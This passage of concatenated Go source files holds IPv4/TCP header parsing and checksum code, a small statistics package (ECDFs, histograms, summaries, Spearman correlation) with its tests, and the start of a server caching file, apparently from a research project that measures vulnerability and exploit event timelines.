	dst = append(dst, e.Dst[:]...)
	dst = append(dst, e.Src[:]...)
	dst = binary.BigEndian.AppendUint16(dst, e.EtherType)
	return append(dst, payload...)
}

// IPv4 is a decoded IPv4 header.
type IPv4 struct {
	IHL      uint8 // header length in 32-bit words
	TOS      uint8
	Length   uint16 // total length from the header
	ID       uint16
	Flags    uint8 // top 3 bits of the fragment field
	FragOff  uint16
	TTL      uint8
	Protocol uint8
	Checksum uint16
	Src      netip.Addr
	Dst      netip.Addr
	Options  []byte
	payload  []byte
}

// ipv4MinHeaderLen is the length of an IPv4 header without options.
const ipv4MinHeaderLen = 20

// DecodeFrom parses an IPv4 header into ip, validating its checksum and
// overwriting every field. Options and payload alias data. On error ip is
// left in an unspecified state.
func (ip *IPv4) DecodeFrom(data []byte) error {
	if len(data) < ipv4MinHeaderLen {
		return fmt.Errorf("ipv4 header: %w (%d bytes)", ErrTruncated, len(data))
	}
	if v := data[0] >> 4; v != 4 {
		return fmt.Errorf("%w: %d", ErrBadVersion, v)
	}
	ihl := data[0] & 0x0f
	hdrLen := int(ihl) * 4
	if hdrLen < ipv4MinHeaderLen {
		return fmt.Errorf("%w: IHL %d", ErrBadHdrLen, ihl)
	}
	if len(data) < hdrLen {
		return fmt.Errorf("ipv4 options: %w", ErrTruncated)
	}
	totalLen := binary.BigEndian.Uint16(data[2:4])
	if int(totalLen) < hdrLen {
		return fmt.Errorf("%w: total length %d < header length %d", ErrBadHdrLen, totalLen, hdrLen)
	}
	end := int(totalLen)
	if end > len(data) {
		// Captured frames may include Ethernet padding beyond the IP total
		// length, but a total length beyond the captured data is truncation.
		return fmt.Errorf("ipv4 body: %w (total length %d, have %d)", ErrTruncated, totalLen, len(data))
	}
	if Checksum(data[:hdrLen]) != 0 {
		return fmt.Errorf("ipv4 header: %w", ErrBadChecksum)
	}
	ip.IHL = ihl
	ip.TOS = data[1]
	ip.Length = totalLen
	ip.ID = binary.BigEndian.Uint16(data[4:6])
	fragField := binary.BigEndian.Uint16(data[6:8])
	ip.Flags = uint8(fragField >> 13)
	ip.FragOff = fragField & 0x1fff
	ip.TTL = data[8]
	ip.Protocol = data[9]
	ip.Checksum = binary.BigEndian.Uint16(data[10:12])
	ip.Src = netip.AddrFrom4([4]byte(data[12:16]))
	ip.Dst = netip.AddrFrom4([4]byte(data[16:20]))
	ip.Options = nil
	if hdrLen > ipv4MinHeaderLen {
		ip.Options = data[ipv4MinHeaderLen:hdrLen]
	}
	ip.payload = data[hdrLen:end]
	return nil
}

// DecodeIPv4 parses an IPv4 header and validates its checksum.
func DecodeIPv4(data []byte) (*IPv4, error) {
	ip := new(IPv4)
	if err := ip.DecodeFrom(data); err != nil {
		return nil, err
	}
	return ip, nil
}

// LayerType implements Layer.
func (ip *IPv4) LayerType() LayerType { return LayerTypeIPv4 }

// LayerPayload implements Layer.
func (ip *IPv4) LayerPayload() []byte { return ip.payload }

// HeaderLen returns the header length in bytes.
func (ip *IPv4) HeaderLen() int { return int(ip.IHL) * 4 }

// SerializeTo appends the wire form of the IPv4 header followed by payload to
// dst. Length, IHL and Checksum are computed; any values in those fields are
// ignored. Options are included and must be a multiple of 4 bytes.
func (ip *IPv4) SerializeTo(dst []byte, payload []byte) ([]byte, error) {
	if len(ip.Options)%4 != 0 {
		return nil, fmt.Errorf("packet: IPv4 options length %d not a multiple of 4", len(ip.Options))
	}
	hdrLen := ipv4MinHeaderLen + len(ip.Options)
	totalLen := hdrLen + len(payload)
	if totalLen > 0xffff {
		return nil, fmt.Errorf("packet: IPv4 total length %d exceeds 65535", totalLen)
	}
	start := len(dst)
	dst = append(dst, (4<<4)|uint8(hdrLen/4), ip.TOS)
	dst = binary.BigEndian.AppendUint16(dst, uint16(totalLen))
	dst = binary.BigEndian.AppendUint16(dst, ip.ID)
	dst = binary.BigEndian.AppendUint16(dst, uint16(ip.Flags)<<13|ip.FragOff&0x1fff)
	dst = append(dst, ip.TTL, ip.Protocol)
	dst = append(dst, 0, 0) // checksum placeholder
	src, dstAddr := ip.Src.As4(), ip.Dst.As4()
	dst = append(dst, src[:]...)
	dst = append(dst, dstAddr[:]...)
	dst = append(dst, ip.Options...)
	cs := Checksum(dst[start : start+hdrLen])
	binary.BigEndian.PutUint16(dst[start+10:start+12], cs)
	return append(dst, payload...), nil
}

// TCP flag bits.
const (
	FlagFIN uint8 = 1 << iota
	FlagSYN
	FlagRST
	FlagPSH
	FlagACK
	FlagURG
)

// TCP is a decoded TCP header.
type TCP struct {
	SrcPort  uint16
	DstPort  uint16
	Seq      uint32
	Ack      uint32
	DataOff  uint8 // header length in 32-bit words
	Flags    uint8
	Window   uint16
	Checksum uint16
	Urgent   uint16
	Options  []byte
	payload  []byte
}

// tcpMinHeaderLen is the length of a TCP header without options.
const tcpMinHeaderLen = 20

// DecodeFrom parses a TCP header into t, overwriting every field. Options
// and payload alias data. Checksum validation requires the IP pseudo-header,
// so it is performed separately by VerifyTCPChecksum. On error t is left in
// an unspecified state.
func (t *TCP) DecodeFrom(data []byte) error {
	if len(data) < tcpMinHeaderLen {
		return fmt.Errorf("tcp header: %w (%d bytes)", ErrTruncated, len(data))
	}
	dataOff := data[12] >> 4
	hdrLen := int(dataOff) * 4
	if hdrLen < tcpMinHeaderLen {
		return fmt.Errorf("%w: data offset %d", ErrBadHdrLen, dataOff)
	}
	if len(data) < hdrLen {
		return fmt.Errorf("tcp options: %w", ErrTruncated)
	}
	t.SrcPort = binary.BigEndian.Uint16(data[0:2])
	t.DstPort = binary.BigEndian.Uint16(data[2:4])
	t.Seq = binary.BigEndian.Uint32(data[4:8])
	t.Ack = binary.BigEndian.Uint32(data[8:12])
	t.DataOff = dataOff
	t.Flags = data[13] & 0x3f
	t.Window = binary.BigEndian.Uint16(data[14:16])
	t.Checksum = binary.BigEndian.Uint16(data[16:18])
	t.Urgent = binary.BigEndian.Uint16(data[18:20])
	t.Options = nil
	if hdrLen > tcpMinHeaderLen {
		t.Options = data[tcpMinHeaderLen:hdrLen]
	}
	t.payload = data[hdrLen:]
	return nil
}

// DecodeTCP parses a TCP header. Checksum validation requires the IP
// pseudo-header, so it is performed separately by VerifyTCPChecksum.
func DecodeTCP(data []byte) (*TCP, error) {
	t := new(TCP)
	if err := t.DecodeFrom(data); err != nil {
		return nil, err
	}
	return t, nil
}

// LayerType implements Layer.
func (t *TCP) LayerType() LayerType { return LayerTypeTCP }

// LayerPayload implements Layer.
func (t *TCP) LayerPayload() []byte { return t.payload }

// SYN reports whether the SYN flag is set.
func (t *TCP) SYN() bool { return t.Flags&FlagSYN != 0 }

// ACK reports whether the ACK flag is set.
func (t *TCP) ACK() bool { return t.Flags&FlagACK != 0 }

// FIN reports whether the FIN flag is set.
func (t *TCP) FIN() bool { return t.Flags&FlagFIN != 0 }

// RST reports whether the RST flag is set.
func (t *TCP) RST() bool { return t.Flags&FlagRST != 0 }

// SerializeTo appends the wire form of the TCP header followed by payload to
// dst, computing DataOff and the checksum over the IPv4 pseudo-header for
// src/dst. Options must be a multiple of 4 bytes.
func (t *TCP) SerializeTo(dst []byte, src, dstAddr netip.Addr, payload []byte) ([]byte, error) {
	if len(t.Options)%4 != 0 {
		return nil, fmt.Errorf("packet: TCP options length %d not a multiple of 4", len(t.Options))
	}
	hdrLen := tcpMinHeaderLen + len(t.Options)
	start := len(dst)
	dst = binary.BigEndian.AppendUint16(dst, t.SrcPort)
	dst = binary.BigEndian.AppendUint16(dst, t.DstPort)
	dst = binary.BigEndian.AppendUint32(dst, t.Seq)
	dst = binary.BigEndian.AppendUint32(dst, t.Ack)
	dst = append(dst, uint8(hdrLen/4)<<4, t.Flags&0x3f)
	dst = binary.BigEndian.AppendUint16(dst, t.Window)
	dst = append(dst, 0, 0) // checksum placeholder
	dst = binary.BigEndian.AppendUint16(dst, t.Urgent)
	dst = append(dst, t.Options...)
	dst = append(dst, payload...)
	cs := tcpChecksum(src, dstAddr, dst[start:])
	binary.BigEndian.PutUint16(dst[start+16:start+18], cs)
	return dst, nil
}

// Checksum computes the Internet checksum (RFC 1071) over data.
func Checksum(data []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(data); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(data[i : i+2]))
	}
	if len(data)%2 == 1 {
		sum += uint32(data[len(data)-1]) << 8
	}
	for sum > 0xffff {
		sum = (sum >> 16) + (sum & 0xffff)
	}
	return ^uint16(sum)
}

// tcpChecksum computes the TCP checksum over the IPv4 pseudo-header plus
// segment, with the checksum field assumed zeroed in segment.
func tcpChecksum(src, dst netip.Addr, segment []byte) uint16 {
	var pseudo [12]byte
	s4, d4 := src.As4(), dst.As4()
	copy(pseudo[0:4], s4[:])
	copy(pseudo[4:8], d4[:])
	pseudo[9] = IPProtoTCP
	binary.BigEndian.PutUint16(pseudo[10:12], uint16(len(segment)))

	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i : i+2]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(pseudo[:])
	add(segment)
	for sum > 0xffff {
		sum = (sum >> 16) + (sum & 0xffff)
	}
	return ^uint16(sum)
}

// VerifyTCPChecksum reports whether the TCP segment (header + payload, as
// captured) has a valid checksum under the IPv4 pseudo-header for src/dst.
func VerifyTCPChecksum(src, dst netip.Addr, segment []byte) bool {
	if len(segment) < tcpMinHeaderLen {
		return false
	}
	// Checksumming the segment with its embedded checksum in place yields 0
	// for a valid segment, same as the IP header rule.
	var pseudo [12]byte
	s4, d4 := src.As4(), dst.As4()
	copy(pseudo[0:4], s4[:])
	copy(pseudo[4:8], d4[:])
	pseudo[9] = IPProtoTCP
	binary.BigEndian.PutUint16(pseudo[10:12], uint16(len(segment)))

	var sum uint32
	for i := 0; i+1 < len(pseudo); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(pseudo[i : i+2]))
	}
	for i := 0; i+1 < len(segment); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(segment[i : i+2]))
	}
	if len(segment)%2 == 1 {
		sum += uint32(segment[len(segment)-1]) << 8
	}
	for sum > 0xffff {
		sum = (sum >> 16) + (sum & 0xffff)
	}
	return ^uint16(sum) == 0
}
