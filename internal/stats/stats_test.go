package stats

import (
	"math"
	"math/rand"
	"sort"
	"testing"
	"testing/quick"
)

func TestNewECDFEmpty(t *testing.T) {
	if _, err := NewECDF(nil); err != ErrNoSamples {
		t.Fatalf("NewECDF(nil) err = %v, want ErrNoSamples", err)
	}
}

func TestECDFAt(t *testing.T) {
	e := MustECDF([]float64{1, 2, 2, 3})
	cases := []struct {
		x    float64
		want float64
	}{
		{0, 0}, {1, 0.25}, {1.5, 0.25}, {2, 0.75}, {3, 1}, {10, 1},
	}
	for _, c := range cases {
		if got := e.At(c.x); got != c.want {
			t.Errorf("At(%v) = %v, want %v", c.x, got, c.want)
		}
	}
}

func TestECDFBelow(t *testing.T) {
	e := MustECDF([]float64{1, 2, 2, 3})
	cases := []struct {
		x    float64
		want float64
	}{
		{1, 0}, {2, 0.25}, {2.5, 0.75}, {3, 0.75}, {4, 1},
	}
	for _, c := range cases {
		if got := e.Below(c.x); got != c.want {
			t.Errorf("Below(%v) = %v, want %v", c.x, got, c.want)
		}
	}
}

func TestECDFQuantile(t *testing.T) {
	e := MustECDF([]float64{10, 20, 30, 40})
	cases := []struct {
		q    float64
		want float64
	}{
		{0, 10}, {0.25, 10}, {0.5, 20}, {0.75, 30}, {1, 40}, {-1, 10}, {2, 40},
	}
	for _, c := range cases {
		if got := e.Quantile(c.q); got != c.want {
			t.Errorf("Quantile(%v) = %v, want %v", c.q, got, c.want)
		}
	}
}

func TestECDFInputNotMutated(t *testing.T) {
	in := []float64{3, 1, 2}
	MustECDF(in)
	if in[0] != 3 || in[1] != 1 || in[2] != 2 {
		t.Errorf("input slice mutated: %v", in)
	}
}

func TestECDFPoints(t *testing.T) {
	e := MustECDF([]float64{1, 1, 2, 4})
	pts := e.Points()
	want := []Point{{1, 0.5}, {2, 0.75}, {4, 1}}
	if len(pts) != len(want) {
		t.Fatalf("Points() = %v, want %v", pts, want)
	}
	for i := range want {
		if pts[i] != want[i] {
			t.Errorf("Points()[%d] = %v, want %v", i, pts[i], want[i])
		}
	}
}

// Property: the ECDF is monotone non-decreasing and bounded in [0, 1].
func TestECDFMonotoneProperty(t *testing.T) {
	f := func(raw []float64, a, b float64) bool {
		samples := cleanSamples(raw)
		if len(samples) == 0 {
			return true
		}
		e := MustECDF(samples)
		if a > b {
			a, b = b, a
		}
		pa, pb := e.At(a), e.At(b)
		return pa >= 0 && pb <= 1 && pa <= pb
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Property: At(max) == 1 and Below(min) == 0 for any non-empty sample.
func TestECDFBoundsProperty(t *testing.T) {
	f := func(raw []float64) bool {
		samples := cleanSamples(raw)
		if len(samples) == 0 {
			return true
		}
		e := MustECDF(samples)
		return e.At(e.Max()) == 1 && e.Below(e.Min()) == 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Property: Quantile is the inverse of At in the nearest-rank sense:
// At(Quantile(q)) >= q for q in (0,1].
func TestQuantileInverseProperty(t *testing.T) {
	f := func(raw []float64, qraw float64) bool {
		samples := cleanSamples(raw)
		if len(samples) == 0 {
			return true
		}
		q := math.Mod(math.Abs(qraw), 1)
		if q == 0 {
			q = 0.5
		}
		e := MustECDF(samples)
		return e.At(e.Quantile(q)) >= q-1e-12
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// cleanSamples removes NaN and infinities, which are not meaningful inputs
// for the study's time-difference distributions.
func cleanSamples(raw []float64) []float64 {
	out := raw[:0:0]
	for _, v := range raw {
		if !math.IsNaN(v) && !math.IsInf(v, 0) {
			out = append(out, v)
		}
	}
	return out
}

func TestHistogramValidation(t *testing.T) {
	if _, err := NewHistogram(0, 0, 5); err == nil {
		t.Error("NewHistogram with zero width should fail")
	}
	if _, err := NewHistogram(0, -1, 5); err == nil {
		t.Error("NewHistogram with negative width should fail")
	}
	if _, err := NewHistogram(0, 1, 0); err == nil {
		t.Error("NewHistogram with zero bins should fail")
	}
}

func TestHistogramAdd(t *testing.T) {
	h, err := NewHistogram(0, 5, 4) // bins [0,5) [5,10) [10,15) [15,20)
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range []float64{-1, 0, 4.99, 5, 12, 19.99, 20, 100} {
		h.Add(x)
	}
	if h.Under != 1 {
		t.Errorf("Under = %d, want 1", h.Under)
	}
	if h.Over != 2 {
		t.Errorf("Over = %d, want 2", h.Over)
	}
	wantCounts := []int{2, 1, 1, 1}
	for i, w := range wantCounts {
		if h.Counts[i] != w {
			t.Errorf("Counts[%d] = %d, want %d", i, h.Counts[i], w)
		}
	}
	if got := h.Total(); got != 8 {
		t.Errorf("Total() = %d, want 8", got)
	}
}

func TestHistogramAddN(t *testing.T) {
	h, _ := NewHistogram(0, 1, 2)
	h.AddN(0.5, 7)
	h.AddN(-3, 2)
	h.AddN(9, 4)
	if h.Counts[0] != 7 || h.Under != 2 || h.Over != 4 {
		t.Errorf("got counts=%v under=%d over=%d", h.Counts, h.Under, h.Over)
	}
}

func TestHistogramBinStart(t *testing.T) {
	h, _ := NewHistogram(-10, 5, 4)
	if got := h.BinStart(0); got != -10 {
		t.Errorf("BinStart(0) = %v, want -10", got)
	}
	if got := h.BinStart(3); got != 5 {
		t.Errorf("BinStart(3) = %v, want 5", got)
	}
}

// Property: Total equals the number of Add calls regardless of sample values.
func TestHistogramTotalProperty(t *testing.T) {
	f := func(raw []float64) bool {
		samples := cleanSamples(raw)
		h, _ := NewHistogram(-100, 7, 30)
		for _, v := range samples {
			h.Add(v)
		}
		return h.Total() == len(samples)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestSummarize(t *testing.T) {
	s, err := Summarize([]float64{2, 4, 4, 4, 5, 5, 7, 9})
	if err != nil {
		t.Fatal(err)
	}
	if s.N != 8 {
		t.Errorf("N = %d, want 8", s.N)
	}
	if s.Mean != 5 {
		t.Errorf("Mean = %v, want 5", s.Mean)
	}
	// Sample stddev of this classic dataset is sqrt(32/7).
	if want := math.Sqrt(32.0 / 7.0); math.Abs(s.Stddev-want) > 1e-12 {
		t.Errorf("Stddev = %v, want %v", s.Stddev, want)
	}
	if s.Min != 2 || s.Max != 9 {
		t.Errorf("Min/Max = %v/%v, want 2/9", s.Min, s.Max)
	}
	if s.Median != 4 {
		t.Errorf("Median = %v, want 4", s.Median)
	}
}

func TestSummarizeEmpty(t *testing.T) {
	if _, err := Summarize(nil); err != ErrNoSamples {
		t.Fatalf("Summarize(nil) err = %v, want ErrNoSamples", err)
	}
}

func TestSummarizeSingle(t *testing.T) {
	s, err := Summarize([]float64{42})
	if err != nil {
		t.Fatal(err)
	}
	if s.Stddev != 0 {
		t.Errorf("Stddev of single sample = %v, want 0", s.Stddev)
	}
	if s.Min != 42 || s.Max != 42 || s.Median != 42 {
		t.Errorf("unexpected summary for single sample: %+v", s)
	}
}

func TestFraction(t *testing.T) {
	got := Fraction([]float64{-2, -1, 0, 1, 2}, func(v float64) bool { return v < 0 })
	if got != 0.4 {
		t.Errorf("Fraction = %v, want 0.4", got)
	}
	if Fraction(nil, func(float64) bool { return true }) != 0 {
		t.Error("Fraction of empty slice should be 0")
	}
}

// The ECDF should agree with a brute-force count on random data.
func TestECDFAgainstBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	samples := make([]float64, 500)
	for i := range samples {
		samples[i] = math.Floor(rng.Float64()*20) - 10 // many ties
	}
	e := MustECDF(samples)
	for _, x := range []float64{-11, -10, -5.5, 0, 3, 9, 10} {
		le, lt := 0, 0
		for _, v := range samples {
			if v <= x {
				le++
			}
			if v < x {
				lt++
			}
		}
		if got, want := e.At(x), float64(le)/500; got != want {
			t.Errorf("At(%v) = %v, want %v", x, got, want)
		}
		if got, want := e.Below(x), float64(lt)/500; got != want {
			t.Errorf("Below(%v) = %v, want %v", x, got, want)
		}
	}
}

func TestPointsReconstructECDF(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	samples := make([]float64, 200)
	for i := range samples {
		samples[i] = math.Floor(rng.Float64() * 10)
	}
	e := MustECDF(samples)
	pts := e.Points()
	if !sort.SliceIsSorted(pts, func(i, j int) bool { return pts[i].X < pts[j].X }) {
		t.Fatal("Points not sorted by X")
	}
	for _, p := range pts {
		if got := e.At(p.X); got != p.Y {
			t.Errorf("At(%v) = %v, want point Y %v", p.X, got, p.Y)
		}
	}
	if last := pts[len(pts)-1]; last.Y != 1 {
		t.Errorf("final point Y = %v, want 1", last.Y)
	}
}

func TestSpearmanRhoPerfect(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	ys := []float64{10, 20, 30, 40, 50}
	rho, err := SpearmanRho(xs, ys)
	if err != nil || math.Abs(rho-1) > 1e-12 {
		t.Errorf("rho = %v/%v, want 1", rho, err)
	}
	// Perfect inverse.
	inv := []float64{50, 40, 30, 20, 10}
	rho, _ = SpearmanRho(xs, inv)
	if math.Abs(rho+1) > 1e-12 {
		t.Errorf("inverse rho = %v, want -1", rho)
	}
	// Monotone nonlinear still rank-perfect.
	exp := []float64{1, 4, 9, 16, 25}
	rho, _ = SpearmanRho(xs, exp)
	if math.Abs(rho-1) > 1e-12 {
		t.Errorf("monotone rho = %v, want 1", rho)
	}
}

func TestSpearmanRhoTies(t *testing.T) {
	xs := []float64{1, 1, 2, 3}
	ys := []float64{5, 5, 6, 7}
	rho, err := SpearmanRho(xs, ys)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(rho-1) > 1e-12 {
		t.Errorf("tied rho = %v, want 1 (identical rank structure)", rho)
	}
}

func TestSpearmanRhoErrorsAndDegenerate(t *testing.T) {
	if _, err := SpearmanRho([]float64{1, 2}, []float64{1, 2, 3}); err == nil {
		t.Error("length mismatch accepted")
	}
	if _, err := SpearmanRho([]float64{1, 2}, []float64{3, 4}); err == nil {
		t.Error("too-short input accepted")
	}
	rho, err := SpearmanRho([]float64{1, 1, 1}, []float64{1, 2, 3})
	if err != nil || rho != 0 {
		t.Errorf("constant input rho = %v/%v, want 0", rho, err)
	}
}

func TestSpearmanRhoUncorrelated(t *testing.T) {
	rng := rand.New(rand.NewSource(6))
	xs := make([]float64, 2000)
	ys := make([]float64, 2000)
	for i := range xs {
		xs[i] = rng.Float64()
		ys[i] = rng.Float64()
	}
	rho, err := SpearmanRho(xs, ys)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(rho) > 0.06 {
		t.Errorf("independent samples rho = %v, want ~0", rho)
	}
}
