// Package stats provides the small statistical toolkit used throughout the
// study: empirical CDFs, histograms, quantiles, and summary statistics.
//
// Every analysis in the paper is expressed either as an ECDF over a derived
// quantity (e.g. the time difference between two lifecycle events, Figure 5)
// or as a binned count over time (e.g. exploit events per 5-day window,
// Figure 6). The types here are deliberately plain: a slice of float64
// samples in, a queryable distribution out.
package stats

import (
	"errors"
	"fmt"
	"math"
	"sort"
)

// ErrNoSamples is returned by constructors that require at least one sample.
var ErrNoSamples = errors.New("stats: no samples")

// ECDF is an empirical cumulative distribution function over a fixed sample.
// The zero value is not usable; construct with NewECDF.
type ECDF struct {
	sorted []float64
}

// NewECDF builds an ECDF from the given samples. The input slice is copied
// and may be reused by the caller. It returns ErrNoSamples for empty input.
func NewECDF(samples []float64) (*ECDF, error) {
	if len(samples) == 0 {
		return nil, ErrNoSamples
	}
	s := make([]float64, len(samples))
	copy(s, samples)
	sort.Float64s(s)
	return &ECDF{sorted: s}, nil
}

// MustECDF is NewECDF but panics on error. It is intended for test and
// example code where the sample set is known to be non-empty.
func MustECDF(samples []float64) *ECDF {
	e, err := NewECDF(samples)
	if err != nil {
		panic(err)
	}
	return e
}

// N returns the number of samples.
func (e *ECDF) N() int { return len(e.sorted) }

// At returns P(X <= x), the fraction of samples less than or equal to x.
func (e *ECDF) At(x float64) float64 {
	// Index of the first sample strictly greater than x.
	i := sort.Search(len(e.sorted), func(i int) bool { return e.sorted[i] > x })
	return float64(i) / float64(len(e.sorted))
}

// Below returns P(X < x), the fraction of samples strictly less than x.
// The paper's desiderata are strict orderings (event R before event C), so
// "diff < 0" style queries use Below rather than At.
func (e *ECDF) Below(x float64) float64 {
	i := sort.Search(len(e.sorted), func(i int) bool { return e.sorted[i] >= x })
	return float64(i) / float64(len(e.sorted))
}

// Quantile returns the q-th quantile for q in [0, 1] using the nearest-rank
// definition. Quantile(0) is the minimum and Quantile(1) the maximum.
func (e *ECDF) Quantile(q float64) float64 {
	if q <= 0 {
		return e.sorted[0]
	}
	if q >= 1 {
		return e.sorted[len(e.sorted)-1]
	}
	rank := int(math.Ceil(q*float64(len(e.sorted)))) - 1
	if rank < 0 {
		rank = 0
	}
	return e.sorted[rank]
}

// Min returns the smallest sample.
func (e *ECDF) Min() float64 { return e.sorted[0] }

// Max returns the largest sample.
func (e *ECDF) Max() float64 { return e.sorted[len(e.sorted)-1] }

// Median returns the 0.5 quantile.
func (e *ECDF) Median() float64 { return e.Quantile(0.5) }

// Points returns the step points of the CDF as (x, P(X<=x)) pairs, one per
// distinct sample value. The result is suitable for plotting or CSV export.
func (e *ECDF) Points() []Point {
	pts := make([]Point, 0, len(e.sorted))
	n := float64(len(e.sorted))
	for i := 0; i < len(e.sorted); {
		j := i
		for j < len(e.sorted) && e.sorted[j] == e.sorted[i] {
			j++
		}
		pts = append(pts, Point{X: e.sorted[i], Y: float64(j) / n})
		i = j
	}
	return pts
}

// Point is a single (x, y) sample of a curve.
type Point struct {
	X float64
	Y float64
}

// Histogram is a fixed-width binned count over a half-open range
// [Lo, Lo+Width*len(Counts)). Samples outside the range are tallied in
// Under/Over rather than silently dropped: the paper's time-relative
// histograms (Figure 6) have long tails on both sides and the analysis must
// be able to report coverage.
type Histogram struct {
	Lo     float64
	Width  float64
	Counts []int
	Under  int
	Over   int
}

// NewHistogram creates a histogram with nbins bins of the given width
// starting at lo. Width must be positive and nbins at least 1.
func NewHistogram(lo, width float64, nbins int) (*Histogram, error) {
	if width <= 0 {
		return nil, fmt.Errorf("stats: histogram width must be positive, got %v", width)
	}
	if nbins < 1 {
		return nil, fmt.Errorf("stats: histogram needs at least 1 bin, got %d", nbins)
	}
	return &Histogram{Lo: lo, Width: width, Counts: make([]int, nbins)}, nil
}

// Add tallies one sample.
func (h *Histogram) Add(x float64) {
	switch i := h.binIndex(x); {
	case i < 0:
		h.Under++
	case i >= len(h.Counts):
		h.Over++
	default:
		h.Counts[i]++
	}
}

// AddN tallies a sample with multiplicity n.
func (h *Histogram) AddN(x float64, n int) {
	switch i := h.binIndex(x); {
	case i < 0:
		h.Under += n
	case i >= len(h.Counts):
		h.Over += n
	default:
		h.Counts[i] += n
	}
}

func (h *Histogram) binIndex(x float64) int {
	return int(math.Floor((x - h.Lo) / h.Width))
}

// Total returns the number of samples tallied, including out-of-range ones.
func (h *Histogram) Total() int {
	t := h.Under + h.Over
	for _, c := range h.Counts {
		t += c
	}
	return t
}

// BinStart returns the inclusive lower edge of bin i.
func (h *Histogram) BinStart(i int) float64 { return h.Lo + float64(i)*h.Width }

// Summary holds the usual five-number-plus summary of a sample.
type Summary struct {
	N      int
	Mean   float64
	Stddev float64
	Min    float64
	P25    float64
	Median float64
	P75    float64
	Max    float64
}

// Summarize computes a Summary of the samples. It returns ErrNoSamples for
// empty input.
func Summarize(samples []float64) (Summary, error) {
	e, err := NewECDF(samples)
	if err != nil {
		return Summary{}, err
	}
	var sum float64
	for _, v := range samples {
		sum += v
	}
	mean := sum / float64(len(samples))
	var ss float64
	for _, v := range samples {
		d := v - mean
		ss += d * d
	}
	var sd float64
	if len(samples) > 1 {
		sd = math.Sqrt(ss / float64(len(samples)-1))
	}
	return Summary{
		N:      len(samples),
		Mean:   mean,
		Stddev: sd,
		Min:    e.Min(),
		P25:    e.Quantile(0.25),
		Median: e.Median(),
		P75:    e.Quantile(0.75),
		Max:    e.Max(),
	}, nil
}

// Fraction returns the fraction of samples for which pred holds. It returns
// 0 for an empty slice; callers that must distinguish "no data" should check
// the length themselves.
func Fraction(samples []float64, pred func(float64) bool) float64 {
	if len(samples) == 0 {
		return 0
	}
	n := 0
	for _, v := range samples {
		if pred(v) {
			n++
		}
	}
	return float64(n) / float64(len(samples))
}
