package stats

import (
	"fmt"
	"math"
	"sort"
)

// SpearmanRho computes Spearman's rank correlation coefficient between two
// equal-length samples, with average ranks for ties. It returns an error
// for mismatched or too-short inputs, and 0 when either variable is
// constant (correlation undefined).
func SpearmanRho(xs, ys []float64) (float64, error) {
	if len(xs) != len(ys) {
		return 0, fmt.Errorf("stats: rank correlation needs equal lengths, got %d and %d", len(xs), len(ys))
	}
	if len(xs) < 3 {
		return 0, fmt.Errorf("stats: rank correlation needs at least 3 samples, got %d", len(xs))
	}
	rx := ranks(xs)
	ry := ranks(ys)
	return pearson(rx, ry)
}

// ranks assigns average ranks (1-based) with ties sharing their mean rank.
func ranks(xs []float64) []float64 {
	idx := make([]int, len(xs))
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool { return xs[idx[a]] < xs[idx[b]] })
	out := make([]float64, len(xs))
	for i := 0; i < len(idx); {
		j := i
		for j < len(idx) && xs[idx[j]] == xs[idx[i]] {
			j++
		}
		// Average rank of the tie group [i, j).
		avg := float64(i+j+1) / 2 // ranks are 1-based: (i+1 + j) / 2
		for k := i; k < j; k++ {
			out[idx[k]] = avg
		}
		i = j
	}
	return out
}

// pearson computes the Pearson correlation of two equal-length samples,
// returning 0 when either is constant.
func pearson(xs, ys []float64) (float64, error) {
	n := float64(len(xs))
	var sx, sy float64
	for i := range xs {
		sx += xs[i]
		sy += ys[i]
	}
	mx, my := sx/n, sy/n
	var cov, vx, vy float64
	for i := range xs {
		dx, dy := xs[i]-mx, ys[i]-my
		cov += dx * dy
		vx += dx * dx
		vy += dy * dy
	}
	if vx == 0 || vy == 0 {
		return 0, nil
	}
	return cov / (math.Sqrt(vx) * math.Sqrt(vy)), nil
}
