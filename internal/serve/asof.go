package serve

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"time"

	"repro/internal/timeline"
	"repro/wayback"
)

// maxAsofResults bounds the per-generation as-of Results cache. Each entry
// holds an aggregate (stats + timelines), not raw events, so a handful of
// hot cuts is cheap to keep; past the cap the map is dropped wholesale.
const maxAsofResults = 16

// asofResults returns the study Results as of t, recomputing only when the
// (generation, t) pair is new. The underlying AsOf query costs the events
// since the nearest checkpoint, so even a miss is far cheaper than a batch
// run over the full log.
func (s *Server) asofResults(t time.Time) (*wayback.Results, uint64, error) {
	gen := s.cfg.Store.Generation()
	key := t.UTC().UnixNano()
	s.asofMu.Lock()
	defer s.asofMu.Unlock()
	if s.asofGen != gen || s.asofRes == nil {
		s.asofRes = make(map[int64]*wayback.Results)
		s.asofGen = gen
	}
	if res, ok := s.asofRes[key]; ok {
		return res, gen, nil
	}
	v, err := s.cfg.Timeline.AsOf(t)
	if err != nil {
		return nil, 0, err
	}
	if len(s.asofRes) >= maxAsofResults {
		clear(s.asofRes)
	}
	res := s.cfg.Study.ResultsFromView(v)
	s.asofRes[key] = res
	return res, gen, nil
}

// serveTimeline is serveCached's sibling for the endpoints that query the
// timeline engine directly (diff, skill) rather than through a Results: same
// generation-keyed response cache, same ETag/304 contract, 404 when time
// travel is not enabled.
func (s *Server) serveTimeline(w http.ResponseWriter, r *http.Request, key string, build func() ([]byte, string, error)) {
	if s.cfg.Timeline == nil {
		http.Error(w, "time travel not enabled (no timeline engine)", http.StatusNotFound)
		return
	}
	gen := s.cfg.Store.Generation()
